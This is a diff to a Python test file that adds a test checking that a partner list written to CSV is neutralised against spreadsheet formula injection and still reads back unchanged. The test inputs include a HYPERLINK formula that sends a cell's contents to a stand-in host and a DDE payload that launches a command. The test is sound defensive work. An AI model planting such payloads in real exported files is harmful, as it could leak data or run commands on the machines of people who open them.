@@ -1,6 +1,10 @@
 """The list as a spreadsheet saves it."""
 
+import csv
+import re
 import zipfile
+from dataclasses import replace
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -261,6 +265,19 @@ def test_a_list_is_recognised_as_a_spreadsheet_or_a_paste(tmp_path):
         rows, problems, _ = read_list(saved(tmp_path, text, name))
         assert rows == [PartnerRow("River Watch", country="France")], problems
     assert "an empty list" in told(read_list(saved(tmp_path, " \n", "empty.txt"))[1])
+
+
+def test_a_list_that_is_opened_in_a_spreadsheet_calculates_nothing_and_reads_as_it_is(tmp_path: Path) -> None:
+    cells = ('=HYPERLINK("http://a.example?"&B2,"x")', "+855 12", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "x; =1+1", "＝1")
+    rows = [PartnerRow(f"{cell} {n}", acronym="=A", contact=cell, note=f"{cell}\n- a") for n, cell in enumerate(cells)]
+    write_csv(tmp_path / "partners.csv", rows)
+    with (tmp_path / "partners.csv").open(encoding="utf-8", newline="") as file:
+        written = [cell for row in list(csv.reader(file))[1:] for cell in row]
+
+    assert not [cell for cell in written if re.search(r"(?:^|[;,\t\r\n])\s*[=+@＝-]", cell)]
+    read, problems, _ = read_csv(tmp_path / "partners.csv")
+    assert read == [replace(row, note=" ".join(row.note.split())) for row in rows]
+    assert problems == []
 
 
 @settings(deadline=None)
